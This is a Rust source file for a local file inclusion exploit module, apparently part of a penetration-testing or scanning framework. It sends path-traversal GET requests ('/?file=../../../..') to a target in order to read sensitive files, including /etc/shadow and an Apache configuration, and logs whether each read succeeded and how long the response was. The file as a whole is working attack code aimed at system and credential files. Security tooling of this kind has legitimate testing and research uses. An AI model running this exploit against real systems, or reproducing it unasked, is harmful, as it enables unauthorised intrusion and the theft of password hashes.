use std::time::Duration;

use async_trait::async_trait;
use reqwest::Method;
use serde_json::{json, Map, Value};
use tracing::debug;
use url::Url;

use super::module::{ExploitModule, ExploitRunner};
use crate::errors::ModuleError;
use crate::http::{HttpSettings, RequestExecutor};
use crate::models::ScanResult;

const NAME: &str = "lfi";
const TIMEOUT: Duration = Duration::from_secs(5);
const TRAVERSAL: &str = "../../../..";

/// Files read once a traversal is confirmed.
pub const SENSITIVE_FILES: &[&str] = &["/etc/shadow", "/etc/hosts", "/proc/version", "/etc/apache2/apache2.conf"];

/// Local file inclusion follow-up: tries to read a fixed list of sensitive
/// files through the `file` query parameter at the target root.
pub struct LfiModule {
    settings: HttpSettings,
}

impl LfiModule {
    pub fn new() -> Self {
        Self {
            settings: HttpSettings {
                timeout: TIMEOUT,
                ..HttpSettings::default()
            },
        }
    }

    fn traversal_url(target: &str, file: &str) -> Result<Url, ModuleError> {
        let base = Url::parse(target).map_err(|e| ModuleError::Failed {
            name: NAME.into(),
            message: format!("invalid target '{}': {}", target, e),
        })?;
        base.join(&format!("/?file={}{}", TRAVERSAL, file))
            .map_err(|e| ModuleError::Failed {
                name: NAME.into(),
                message: e.to_string(),
            })
    }
}

impl Default for LfiModule {
    fn default() -> Self {
        Self::new()
    }
}

impl ExploitModule for LfiModule {
    fn name(&self) -> &str {
        NAME
    }

    fn runner(&self) -> Option<&dyn ExploitRunner> {
        Some(self)
    }
}

#[async_trait]
impl ExploitRunner for LfiModule {
    async fn run(&self, target: &str, _scan: &ScanResult) -> Result<Map<String, Value>, ModuleError> {
        let executor = RequestExecutor::new(&self.settings).map_err(|e| ModuleError::Failed {
            name: NAME.into(),
            message: e.to_string(),
        })?;

        let mut results = Vec::with_capacity(SENSITIVE_FILES.len());
        for file in SENSITIVE_FILES {
            let url = Self::traversal_url(target, file)?;
            let entry = match executor.send(Method::GET, url).await {
                Ok(response) if response.status == 200 => json!({
                    "file": file,
                    "status": "success",
                    "content_length": response.length(),
                }),
                Ok(response) => json!({
                    "file": file,
                    "status": "failed",
                    "status_code": response.status,
                }),
                Err(e) => json!({
                    "file": file,
                    "status": "error",
                    "error": e.to_string(),
                }),
            };
            debug!(file = %file, status = %entry["status"], "LFI file read finished");
            results.push(entry);
        }

        let mut details = Map::new();
        details.insert("results".into(), Value::Array(results));
        Ok(details)
    }
}
